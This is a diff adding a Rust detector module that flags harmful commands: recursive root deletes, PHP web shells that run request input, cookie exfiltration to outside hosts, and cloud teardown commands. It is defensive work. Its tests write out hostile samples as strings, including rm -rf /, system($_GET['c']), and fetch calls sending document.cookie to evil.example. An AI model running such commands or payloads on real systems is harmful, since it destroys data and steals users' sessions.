@@ -1,0 +1,159 @@
+//! Programs that do what harmful commands do: calls of languages, what pages send away, and tools that take down what runs elsewhere.
+
+use super::Said;
+use super::harm::{DESTRUCTION, EXFILTRATION, root};
+use super::lex::{Line, holds};
+use super::remote::REMOTE;
+
+/// Whether the word at a place ends with one of these names, and is called.
+fn called(line: &Line, at: usize, names: &[&str]) -> bool {
+    let word = line.word(at).unwrap_or_default();
+    let name = word.rsplit(|byte| matches!(byte, b'.' | b':' | b'\\' | b'@')).next().unwrap_or(word);
+    names.iter().any(|known| name == known.as_bytes()) && line.operator(at + 1, &["("])
+}
+
+/// `shutil.rmtree('/')` and its kind in other languages, and lists of arguments.
+pub(super) fn removed(line: &Line, at: usize) -> Said {
+    let bare = |word: &[u8]| {
+        let end = word.iter().position(|byte| matches!(byte, b',' | b']')).unwrap_or(word.len());
+        root(word.get(..end).unwrap_or_default())
+    };
+    if called(line, at, &["rmtree", "rmsync", "rmdirsync", "rm_rf", "rm_r", "remove_dir_all", "removeall"]) {
+        let percent = bare(line.word(at + 2)?);
+        return (percent > 0).then_some((DESTRUCTION, percent, at, at + 2));
+    }
+    // `['rm', '-rf', '/']`, with or without white space.
+    let word = line.word(at)?;
+    let list = word.strip_prefix(b"[")?;
+    let given = (at..line.words.len().min(at + 4)).map_while(|i| line.word(i)).flat_map(|word| {
+        word.split(|byte| matches!(byte, b',' | b'[' | b']')).filter(|part| !part.is_empty())
+    });
+    let given: Vec<&[u8]> = given.take(6).collect();
+    let is_rm = list.starts_with(b"rm,")
+        && given.get(1).is_some_and(|flag| flag.starts_with(b"-") && flag.contains(&b'r'));
+    let percent = given.iter().skip(2).map(|path| root(path)).max()?;
+    (is_rm && percent > 0).then_some((DESTRUCTION, percent, at, at))
+}
+
+/// What a page's reader sends becomes a command: `system($_GET['c'])`.
+pub(super) fn obeyed(line: &Line, at: usize) -> Said {
+    let word = line.word(at)?;
+    let given =
+        ["$_get[", "$_post[", "$_request[", "$_cookie["].iter().any(|from| word.starts_with(from.as_bytes()));
+    let before = at.checked_sub(2)?;
+    let runs = called(
+        line,
+        before,
+        &[
+            "system",
+            "exec",
+            "shell_exec",
+            "passthru",
+            "popen",
+            "proc_open",
+            "eval",
+            "assert",
+            "create_function",
+        ],
+    );
+    (given && runs).then_some((REMOTE, 90, before, at))
+}
+
+/// What a page keeps for its user goes to somebody else: `fetch('https://…?' + document.cookie)`.
+pub(super) fn told(line: &Line, at: usize) -> Said {
+    let word = line.word(at)?;
+    if !(holds(word, "document.cookie")
+        || holds(word, "localstorage.getitem")
+        || holds(word, "sessionstorage.getitem"))
+    {
+        return None;
+    }
+    let out = line.words.iter().any(|word| holds(&word.text, "://") || word.text.starts_with(b"//"));
+    let sends = ["fetch", "sendbeacon", "xmlhttprequest", ".src", "location", "image", "axios", "websocket"];
+    let sends = sends.iter().any(|text| line.holds(0, text).is_some());
+    (out && sends).then_some((EXFILTRATION, 85, at, at))
+}
+
+/// What takes down what runs elsewhere, with all that it keeps.
+pub(super) fn taken_down(line: &Line, at: usize) -> Said {
+    let has = |words: &[&str]| {
+        words.iter().all(|wanted| line.arguments(at).any(|(_, word)| word == wanted.as_bytes()))
+    };
+    let any = |words: &[&str]| words.iter().any(|word| has(&[word]));
+    let percent = match line.name(at) {
+        b"terraform" | b"tofu" | b"terragrunt" if has(&["destroy"]) => {
+            if any(&["-auto-approve", "--auto-approve"]) { 78 } else { 55 }
+        }
+        b"kubectl" if has(&["delete"]) && any(&["namespace", "namespaces", "ns"]) => 65,
+        b"kubectl" if has(&["delete"]) && any(&["--all", "--all-namespaces", "-a"]) => 65,
+        b"aws" if has(&["s3", "rb", "--force"]) => 72,
+        b"aws" if has(&["s3", "rm", "--recursive"]) => 60,
+        b"gsutil" if has(&["rm"]) && any(&["-r", "-a"]) => 60,
+        b"gcloud" if has(&["projects", "delete"]) => 72,
+        _ => return None,
+    };
+    Some((DESTRUCTION, percent, at, line.end(at)))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::judge;
+
+    /// What is said of a line whose window begins at the mark `^`, or with the line.
+    fn said(text: &str) -> Option<(&'static str, u32)> {
+        let (left, text) = text.split_once('^').unwrap_or(("", text));
+        judge(left.as_bytes(), text.as_bytes()).map(|hit| (hit.category, hit.percent))
+    }
+
+    #[test]
+    fn programs_that_do_harm_are_said() {
+        for (line, category, percent) in [
+            ("shutil.^rmtree('/')", "command/destruction", 92),
+            ("shutil.^rmtree(\"/home\", ignore_errors=True)", "command/destruction", 85),
+            ("fs.^rmSync('/', { recursive: true, force: true })", "command/destruction", 92),
+            ("FileUtils.^rm_rf('/')", "command/destruction", 92),
+            ("std::fs::^remove_dir_all(\"/\")?;", "command/destruction", 92),
+            ("^subprocess.run(['rm', '-rf', '/'])", "command/destruction", 92),
+            ("^subprocess.call(['rm','-fr','/home'])", "command/destruction", 85),
+            ("<?php system($^_GET['c']); ?>", "command/remote_code", 90),
+            ("<?php @eval($^_POST[\"x\"]);", "command/remote_code", 90),
+            ("fetch('https://evil.example/?' + document.^cookie)", "command/exfiltration", 85),
+            ("new Image().src = '//evil.example/c?' + document.^cookie", "command/exfiltration", 85),
+            (
+                "<script>location='https://evil.example/?'+document.^cookie</script>",
+                "command/exfiltration",
+                85,
+            ),
+            ("^terraform destroy -auto-approve", "command/destruction", 78),
+            ("^kubectl delete namespace production", "command/destruction", 65),
+            ("^kubectl delete pods --all", "command/destruction", 65),
+            ("^aws s3 rm s3://backups --recursive", "command/destruction", 60),
+            ("^aws s3 rb s3://backups --force", "command/destruction", 72),
+            ("^gcloud projects delete shop", "command/destruction", 72),
+        ] {
+            assert_eq!(said(line), Some((category, percent)), "{line}");
+        }
+    }
+
+    #[test]
+    fn ordinary_programs_say_nothing() {
+        for line in [
+            "shutil.^rmtree(build)",
+            "shutil.^rmtree('./build')",
+            "fs.^rmSync('dist', { recursive: true })",
+            "^subprocess.run(['rm', '-rf', 'build'])",
+            "^subprocess.run(['ls', '-l', '/'])",
+            "$name = $^_GET['name'];",
+            "echo htmlspecialchars($^_GET['q']);",
+            "document.^cookie = 'theme=dark; path=/'",
+            "const token = localStorage.^getItem('token');",
+            "^terraform plan",
+            "^kubectl delete pod web-1",
+            "^kubectl get ns",
+            "^aws s3 cp a.txt s3://bucket/",
+            "^gcloud projects list",
+        ] {
+            assert_eq!(said(line), None, "{line}");
+        }
+    }
+}
